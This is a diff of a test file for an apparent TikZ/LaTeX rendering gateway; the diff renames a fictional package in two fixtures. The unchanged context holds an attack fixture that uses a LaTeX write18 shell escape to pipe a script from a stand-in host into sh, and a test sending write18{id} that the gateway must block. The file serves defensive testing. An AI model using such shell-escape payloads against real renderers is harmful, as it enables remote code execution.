@@ -16,7 +16,7 @@ const DAY = 24 * HOUR;
 const ATTACK = JSON.stringify({ tikz_code: '\\immediate\\write18{curl evil.example | sh}' });
 const BENIGN = JSON.stringify({ tikz_code: '\\draw (0,0) -- (1,1);' });
 /** A legitimate package the allow-list does not know: a policy refusal, not an attack. */
-const UNKNOWN_PACKAGE = JSON.stringify({ tikz_code: '\\usepackage{tikz-feynhand}\\draw (0,0);' });
+const UNKNOWN_PACKAGE = JSON.stringify({ tikz_code: '\\usepackage{tikz-nosuchpackage}\\draw (0,0);' });
 /** A web rule (CRITICAL, confidence high) on a caption field. */
 const CAPTION = JSON.stringify({ tikz_code: '\\draw (0,0);', caption: 'how <script> tags work' });
 
@@ -160,7 +160,7 @@ describe('automatic blocks', () => {
     const clock = new FakeClock(1_800_000_000_000);
     const gw = await start('', clock);
     const ip = '198.51.100.74';
-    const body = JSON.stringify({ tikz_code: '\\usepackage{tikz-feynhand}\\immediate\\write18{id}' });
+    const body = JSON.stringify({ tikz_code: '\\usepackage{tikz-nosuchpackage}\\immediate\\write18{id}' });
     expect((await post(gw, body, ip)).status).toBe(403);
     expect(await blocked(gw, ip)).toBe(5 * MIN);
   });
